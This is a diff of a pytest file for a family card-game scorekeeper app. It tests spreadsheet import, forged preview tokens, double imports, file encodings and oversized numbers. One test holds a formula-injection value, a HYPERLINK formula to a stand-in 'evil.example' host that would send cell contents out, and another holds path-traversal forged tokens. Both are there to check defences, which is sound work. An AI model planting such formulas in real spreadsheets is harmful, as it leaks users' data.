@@ -17,7 +17,6 @@ from scorekeeper import rules
 from scorekeeper.extensions import db
 from scorekeeper.house_rules.service import import_house_rules
 from scorekeeper.models import FINISHED, Game, GameRound, PlayerGame, Result
-from scorekeeper.transfer import sheets
 from scorekeeper.transfer.sheet_games import read_sheet
 from tests.helpers import db_snapshot, input_value, new_game, our_family, text_of, texts_by_class
 
@@ -65,7 +64,7 @@ def upload(client, raw: bytes, key: str = "family-7", name: str = "games.xlsx"):
 
 def confirm(client, page, action: str = "import", key: str = "family-7", **answers):
     """Press a button of the preview, with its form as it was drawn plus ``answers``."""
-    data = {"rules": key, "cells": input_value(page, "cells"), "action": action, **answers}
+    data = {"rules": key, "token": input_value(page, "token"), "action": action, **answers}
     return client.post("/import/sheet/check", data=data)
 
 
@@ -330,6 +329,7 @@ def test_a_game_that_skipped_hand_1_where_the_rules_allow_it(client, app):
 
 @pytest.mark.parametrize("raw, message", [
     (b"", "The file is empty."),
+    (b"  \r\n\t\r\n", "The file is empty."),
     (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "old Excel file (.xls)"),
     (b"PK\x03\x04garbage", "damaged or not a spreadsheet"),
     (b"Name,Age\nAnn,7\n", "No header row with a Date and a Player column"),
@@ -348,17 +348,50 @@ def test_an_ods_file_is_refused_with_what_to_do(client, app):
     assert "Save it as .xlsx" in text_of(upload(client, out.getvalue(), name="games.ods"))
 
 
-def test_a_changed_preview_is_refused_without_an_error_page(client, app):
-    for cells in ("not-base64!", sheets.pack([["a"]])[:-4], "", "eJw="):
-        page = client.post("/import/sheet/check", data={"rules": "family-7", "cells": cells, "action": "import"},
+def test_a_preview_token_never_given_or_of_another_family_is_refused_without_an_error_page(client, app):
+    from tests.helpers import add_member, strict_client
+    page = upload(client, two_games_workbook())
+    token = input_value(page, "token")
+    for forged in ("not-a-token!", token[:-1] + ("A" if token[-1] != "A" else "B"), "", "../" * 10 + "x" * 2):
+        page = client.post("/import/sheet/check", data={"rules": "family-7", "token": forged, "action": "import"},
                            follow_redirects=True)
         assert page.status_code == 200 and "choose the file again" in text_of(page).lower()
-    # Cells that unpack but hold no games are a preview with its problem; unknown rules are a form error.
-    page = client.post("/import/sheet/check", data={"rules": "family-7", "cells": sheets.pack([["a"]])})
-    assert "No header row with a Date and a Player column" in text_of(page)
-    page = client.post("/import/sheet/check", data={"rules": "nonsense", "cells": sheets.pack([["a"]])},
-                       follow_redirects=True)
+    add_member(app, "Other family", "other")
+    other = strict_client(app, "other")
+    page = other.post("/import/sheet/check", data={"rules": "family-7", "token": token, "action": "import"},
+                      follow_redirects=True)
+    assert "choose the file again" in text_of(page).lower() and finished_totals(app) == {}
+    # Unknown rules are a form error.
+    page = client.post("/import/sheet/check", data={"rules": "nonsense", "token": token}, follow_redirects=True)
     assert page.status_code == 200 and "choose the file again" in text_of(page).lower()
+
+
+def test_the_preview_form_carries_a_token_only_so_a_large_sheet_imports_under_the_form_limit(client, app):
+    """2,000 games with eight free-text columns: the form is the token, not the cells."""
+    header = HEADER + [f"Remark {i}" for i in range(8)]
+    lines = [",".join(header)]
+    for game in range(2000):
+        day = date(2000, 1, 1).toordinal() + game
+        for row in GAME_1:
+            lines.append(",".join([date.fromordinal(day).isoformat(), *map(str, row), "",
+                                   *(f"free text {game} {i} " + "x" * 40 for i in range(8))]))
+    page = upload(client, csv_bytes(lines), name="games.csv")
+    assert problems(page) == [] and "Remark 0" in text_of(page)
+    assert len(input_value(page, "token")) == 32
+    done = confirm(client, page)
+    assert done.status_code == 302, text_of(done)
+    assert len(finished_totals(app)) == 2000
+
+
+def test_a_second_tap_on_import_imports_nothing_twice(client, app):
+    page = upload(client, two_games_workbook())
+    first = confirm(client, page)
+    assert first.status_code == 302 and len(finished_totals(app)) == 2
+    before = db_snapshot(app)
+    again = confirm(client, page)
+    assert again.status_code == 302
+    assert "expired or was already imported" in text_of(client.get(again.headers["Location"]))
+    assert db_snapshot(app) == before
 
 
 # -- templates -------------------------------------------------------------------------------
@@ -440,8 +473,9 @@ def test_a_sheet_larger_than_the_page_can_import_points_to_the_command_line(clie
 
 
 def test_a_csv_cell_longer_than_csv_allows_is_refused_next_to_the_field(client):
-    raw = b"Date,Player,Round 1\r\n2024-05-01,Ann," + b"9" * 200_000 + b"\r\n"
-    assert "This CSV file cannot be read" in text_of(upload(client, raw, name="x.csv"))
+    raw = b"Date,Player,Round 1\r\n2024-05-01,Ann,\"" + b"9\n" * 20_000 + b"\"\r\n"
+    assert "This CSV file cannot be read: Row 2 has a cell of more than 1,000 characters" in text_of(
+        upload(client, raw, name="x.csv"))
 
 
 def test_a_workbook_with_a_damaged_cell_is_refused_next_to_the_field(client):
@@ -472,13 +506,6 @@ def test_a_four_digit_year_is_read_as_written():
     assert [str(p) for p in sheet.problems][0].endswith("is before 1900") and sheet.games == []
 
 
-def test_a_nul_in_changed_cells_never_reaches_the_database(client, app):
-    cells = [HEADER] + [["2024-05-01", "An\x00n" if r[0] == "Ann" else r[0], *r[1:], None] for r in GAME_1]
-    done = client.post("/import/sheet/check", data={"rules": "family-7", "cells": sheets.pack(cells), "action": "import"})
-    assert done.status_code == 302
-    assert set(finished_totals(app)["2024-05-01"]) == {"Ann", "Bob", "Cy"}
-
-
 def test_a_template_of_house_rules_with_a_control_character(client, app):
     with app.app_context():
         odd = dataclasses.replace(F7, key="house-x", name="Gran\x0bs rules", rounds=(
@@ -490,3 +517,80 @@ def test_a_template_of_house_rules_with_a_control_character(client, app):
 
 def test_the_pages_titles(client):
     assert "<title>Import old score sheets · " in client.get("/import/sheet").get_data(as_text=True)
+
+
+# -- files as Excel writes them, and numbers past any hand ------------------------------------
+
+
+def game_1_lines(delimiter: str = ",") -> list[str]:
+    return [delimiter.join(HEADER)] + [delimiter.join(["2024-05-01", *map(str, r), ""]) for r in GAME_1]
+
+
+@pytest.mark.parametrize("encoding, delimiter", [("utf-16", "\t"), ("utf-16-le", "\t"), ("utf-16-be", ",")])
+def test_excels_unicode_text_in_utf16_imports(client, app, encoding, delimiter):
+    raw = "\r\n".join(game_1_lines(delimiter)).encode(encoding)  # "utf-16" writes the byte order mark
+    page = upload(client, raw, name="games.txt")
+    assert problems(page) == [], text_of(page)
+    confirm(client, page)
+    assert finished_totals(app) == {"2024-05-01": {"Ann": 50, "Bob": 70, "Cy": 115}}
+
+
+def test_a_csv_with_carriage_returns_alone_as_csv_macintosh_writes_it(client, app):
+    raw = ("\r".join(game_1_lines()) + "\r").encode("cp1252")
+    page = upload(client, raw, name="games.csv")
+    assert problems(page) == [], text_of(page)
+    confirm(client, page)
+    assert finished_totals(app) == {"2024-05-01": {"Ann": 50, "Bob": 70, "Cy": 115}}
+
+
+@pytest.mark.parametrize("column", ["score", "total"])
+def test_a_score_or_total_of_hundreds_of_digits_is_a_problem_not_an_error(client, app, column):
+    header = HEADER[:-1] + ["Total", "Notes"]
+    rows = [[*r, sum(r[1:])] for r in GAME_1]
+    huge = "9" * 900
+    if column == "score":
+        rows[1][2] = huge
+    else:
+        rows[1][8] = huge
+    lines = [",".join(header)] + [",".join(["2024-05-01", *map(str, r), ""]) for r in rows]
+    before = db_snapshot(app)
+    page = upload(client, csv_bytes(lines), name="games.csv")
+    found = problems(page)
+    if column == "score":
+        assert found == ["Row 3, column D (Round 2): '99999999999999999999…' is far more than any hand is worth"]
+    else:
+        assert found == ["Row 3, column J (Total): Bob's total is written as 9999999999999999999…, "
+                         "but the rounds add up to 70"]
+    assert db_snapshot(app) == before
+
+
+def test_a_cell_of_4301_digits_is_refused_before_any_number_is_read(client, app):
+    lines = game_1_lines()
+    lines[2] = lines[2].replace(",10,", "," + "9" * 4301 + ",", 1)
+    page = upload(client, csv_bytes(lines), name="games.csv")
+    assert "Row 3 has a cell of more than 1,000 characters" in text_of(page)
+
+
+def test_a_float_score_far_past_any_hand_is_a_problem(client, app):
+    rows = [HEADER] + [[datetime(2024, 5, 1), *r, None] for r in GAME_1]
+    rows[2][3] = 1e300
+    assert problems(upload(client, xlsx(rows))) == ["Row 3, column D (Round 2): 1e+300 is far more than any hand is worth"]
+
+
+def test_a_house_rules_name_like_a_formula_is_text_in_the_templates(client, app):
+    with app.app_context():
+        odd = dataclasses.replace(F7, key="house-x", name='=HYPERLINK("http://evil.example/"&A1,"Help")', rounds=(
+            dataclasses.replace(F7.rounds[0], contract="@SUM(1)"), *F7.rounds[1:]))
+        key = import_house_rules(our_family(), odd)[0].key
+    raw = client.get(f"/import/sheet/template/{key}.xlsx").data
+    import zipfile
+    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
+        sheets_xml = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets_xml and not any(b"<f>" in x or b"<f " in x for x in sheets_xml)
+    book = load_workbook(io.BytesIO(raw))
+    help_cell = book.worksheets[1]["A1"]
+    assert help_cell.data_type == "s" and help_cell.value.startswith("'=HYPERLINK(")
+    every = [c.value for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value]
+    assert not any(str(v)[:1] in "=+-@" for v in every)
+    csv_text = client.get(f"/import/sheet/template/{key}.csv").data.decode("utf-8-sig")
+    assert not any(cell[:1] in "=+-@" for cell in next(iter(__import__("csv").reader(io.StringIO(csv_text)))))
